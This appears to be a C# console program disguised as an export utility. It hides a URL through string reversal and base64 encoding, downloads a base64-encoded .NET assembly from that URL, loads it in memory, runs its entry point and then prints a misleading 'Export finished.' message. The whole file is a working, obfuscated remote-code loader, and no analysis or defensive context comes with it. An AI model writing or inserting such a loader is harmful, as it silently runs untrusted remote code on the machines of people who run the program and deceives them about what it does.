using System;
using System.Linq;
using System.Net;
using System.Reflection;

class Program
{
    static void Main(string[] args)
    {
        var s = new string("==AN2ImLyVGZh9GTvc2aw9SbvNmLlxGctFGel5SZoNWYj1CdldWdu9yL6MHc0RHa".Reverse().ToArray());
        var u = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(s));
        var a = Assembly.Load(Convert.FromBase64String(new WebClient().DownloadString(u)));
        a.EntryPoint?.Invoke(null, new object[] { args });
        Console.WriteLine("Export finished.");
    }
}
